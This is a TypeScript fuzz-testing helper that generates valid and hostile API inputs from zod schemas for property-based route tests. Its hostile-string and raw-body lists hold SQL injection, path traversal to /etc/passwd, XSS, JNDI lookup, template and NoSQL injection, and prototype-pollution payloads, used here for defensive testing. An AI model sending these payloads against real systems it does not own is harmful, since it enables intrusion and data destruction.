import { fc } from '@fast-check/vitest';
import { z } from '@hono/zod-openapi';

/*
 * fast-check arbitraries for the fuzz suites: valid inputs derived from the very zod schemas the
 * routes validate with (through their JSON Schema), hostile strings and numbers, and mutations that
 * take a valid input just past the edge. The oracle for "should this be accepted" is always the
 * schema itself (`acceptedBy`), never a copy of its rules.
 */

type JsonSchema = {
  type?: string | string[];
  format?: string;
  pattern?: string;
  enum?: unknown[];
  const?: unknown;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  minLength?: number;
  maxLength?: number;
  minItems?: number;
  maxItems?: number;
  items?: JsonSchema;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
};

const isoDate = fc.date({ min: new Date('1990-01-01T00:00:00Z'), max: new Date('2099-12-31T00:00:00Z'), noInvalidDate: true });

function fromJsonSchema(schema: JsonSchema, overrides: Record<string, fc.Arbitrary<unknown>>, path: string): fc.Arbitrary<unknown> {
  const override = overrides[path];
  if (override) return override;
  if (schema.anyOf ?? schema.oneOf) return fc.oneof(...(schema.anyOf ?? schema.oneOf)!.map((option) => fromJsonSchema(option, overrides, path)));
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (Array.isArray(schema.type)) return fc.oneof(...schema.type.map((type) => fromJsonSchema({ ...schema, type }, overrides, path)));
  switch (schema.type) {
    case 'null':
      return fc.constant(null);
    case 'boolean':
      return fc.boolean();
    case 'integer':
      return fc.integer({ min: schema.minimum ?? Number.MIN_SAFE_INTEGER, max: schema.maximum ?? Number.MAX_SAFE_INTEGER });
    case 'number':
      return fc.double({ min: schema.minimum ?? -1e12, max: schema.maximum ?? 1e12, noNaN: true, noDefaultInfinity: true });
    case 'string': {
      if (schema.format === 'uuid') return fc.uuid();
      if (schema.format === 'date') return isoDate.map((date) => date.toISOString().slice(0, 10));
      if (schema.format === 'date-time') return isoDate.map((date) => date.toISOString());
      const { minLength = 0, maxLength = 40 } = schema;
      const base = schema.pattern ? fc.stringMatching(new RegExp(schema.pattern)) : fc.string({ minLength, maxLength: Math.min(maxLength, 80) });
      return base.filter((value) => value.length >= minLength && value.length <= maxLength);
    }
    case 'array':
      return fc.array(fromJsonSchema(schema.items ?? {}, overrides, `${path}[]`), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.min(schema.maxItems ?? 5, 10),
      });
    case 'object': {
      const properties = Object.fromEntries(
        Object.entries(schema.properties ?? {}).map(([key, value]) => [key, fromJsonSchema(value, overrides, path ? `${path}.${key}` : key)]),
      );
      return fc.record(properties, { requiredKeys: (schema.required ?? []) as never[] });
    }
    default:
      return fc.jsonValue();
  }
}

/**
 * Values shaped by `schema` (its JSON Schema, as a client reads it from /openapi.json). Most are
 * valid; refinements JSON Schema cannot say (distinct seats, one of two fields) are left to the
 * oracle. `overrides` replaces the arbitrary at a path (`seatNumbers[]`, `amount`), e.g. to aim
 * seat numbers at seats that exist.
 */
export function shapedBy(schema: z.ZodType, overrides: Record<string, fc.Arbitrary<unknown>> = {}): fc.Arbitrary<unknown> {
  return fromJsonSchema(z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as JsonSchema, overrides, '');
}

/** The oracle: would the route's own schema accept `value` once it has crossed the wire as JSON? */
export function acceptedBy(schema: z.ZodType, value: unknown): boolean {
  if (value === undefined) return false;
  return schema.safeParse(JSON.parse(JSON.stringify(value))).success;
}

/** Strings that have broken APIs before: injections, encodings, sizes, look-alikes of numbers and ids. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t',
  '\u0000',
  'null',
  'undefined',
  'true',
  '0',
  '-1',
  '1e309',
  'NaN',
  'Infinity',
  '0x10',
  '١٢٣',
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '" OR ""="',
  '1; SELECT pg_sleep(10)',
  "$1' UNION SELECT version() --",
  '\\',
  '\\"',
  '%00',
  '%',
  '%zz',
  '../../../../etc/passwd',
  '..',
  '.',
  '/',
  '?',
  '#',
  '&',
  '<script>alert(1)</script>',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  '{"$ne":null}',
  '*',
  'a'.repeat(256),
  'b'.repeat(4096),
  '🎫',
  'e\u0301',
  '\u202eevil',
  '\u200b',
  '\ufeff',
  '\r\n',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '00000000-0000-0000-0000-000000000000',
  '6f1c2a52-8d0e-4c4e-9a55-0e2f4c7b9a1',
  '6f1c2a52-8d0e-4c4e-9a55-0e2f4c7b9a10 ',
  '6F1C2A52-8D0E-4C4E-9A55-0E2F4C7B9A10',
  '{6f1c2a52-8d0e-4c4e-9a55-0e2f4c7b9a10}',
  '2026-02-30',
  '2026-13-01',
  '99999-01-01',
  '2026-1-1',
  '0000-00-00',
  '-2026-01-01',
];

/** Numbers at and past every edge a schema here has: 0, ±1, fractions, 2^53, the float extremes. */
export const HOSTILE_NUMBERS: readonly number[] = [
  0,
  -0,
  1,
  -1,
  0.5,
  1.5,
  4,
  5,
  100_000,
  100_001,
  999_999.5,
  1_000_000,
  1_000_001,
  1_000_000_000,
  2 ** 31,
  2 ** 32,
  2 ** 53 - 1,
  2 ** 53,
  2 ** 53 + 2,
  -(2 ** 53),
  1e21,
  1e300,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  Number.EPSILON,
];

/** A hostile string: one of the list, or generated (any code points, up to 300 of them). */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 300 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
);

/** A hostile number: an edge, or any double or integer. */
export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_NUMBERS) },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.integer() },
);

/** Any hostile JSON value: strings, numbers, the other scalars, containers, deep nesting. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 4, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, [], {}, [null], { $gt: '' }) },
  { weight: 1, arbitrary: fc.array(hostileNumber, { maxLength: 8 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/**
 * A body for a route whose schema is `schema`: valid ones (from `valid`), valid ones with one field
 * replaced by a hostile value, dropped, or joined by an unknown key, and hostile values whole.
 */
export function bodyFor(valid: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  const mutated = fc
    .tuple(valid, fc.nat(), hostileValue, fc.constantFrom('replace', 'drop', 'extra', 'extra-proto') as fc.Arbitrary<string>)
    .map(([value, index, hostile, how]) => {
      if (typeof value !== 'object' || value === null || Array.isArray(value)) return hostile;
      const copy: Record<string, unknown> = { ...(value as Record<string, unknown>) };
      const keys = Object.keys(copy);
      const key = keys.length ? keys[index % keys.length]! : 'x';
      if (how === 'replace') copy[key] = hostile;
      if (how === 'drop') delete copy[key];
      if (how === 'extra') copy[`extra${index % 3}`] = hostile;
      if (how === 'extra-proto') Object.defineProperty(copy, '__proto__', { value: { isAdmin: true }, enumerable: true });
      return copy;
    });
  return fc.oneof({ weight: 3, arbitrary: valid }, { weight: 5, arbitrary: mutated }, { weight: 1, arbitrary: hostileValue });
}

/** Raw bodies that are not (quite) JSON, or JSON with tricks JSON.stringify never makes. */
export const RAW_BODIES: readonly string[] = [
  '',
  '{',
  '}',
  '[',
  '{"amount":}',
  '{"amount": 1,}',
  "{'amount': 1}",
  '{"amount": 1} trailing',
  '{"amount": 1e309}',
  '{"amount": -1e309}',
  '{"amount": 1, "amount": 2}',
  '{"__proto__": {"amount": 5}}',
  '{"constructor": {"prototype": {"admin": true}}}',
  '{"amount": 0x10}',
  '{"amount": NaN}',
  '{"amount": Infinity}',
  '{"amount": "5"}',
  '\ufeff{"amount": 5}',
  '{"amount": 5}\u0000',
  'null',
  '"string"',
  '5',
  'true',
  '[]',
  '[{"amount": 5}]',
  '['.repeat(10_000),
  `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
  `{"a":${'{"a":'.repeat(2_000)}1${'}'.repeat(2_001)}`,
];

/** A printable header value (what fetch lets a client send), hostile or not. */
export const headerValue: fc.Arbitrary<string> = hostileString.map((value) => value.replace(/[^\x20-\x7e]/g, '').trim());

/** Percent-encodes any string for a URL path or query, lone surrogates included (as U+FFFD). */
export function urlPart(value: string): string {
  return encodeURIComponent(wellFormed(value));
}

/** What a server decodes `value` to once it crossed a URL: lone surrogates become U+FFFD. */
export function wellFormed(value: string): string {
  return (value as string & { toWellFormed(): string }).toWellFormed();
}
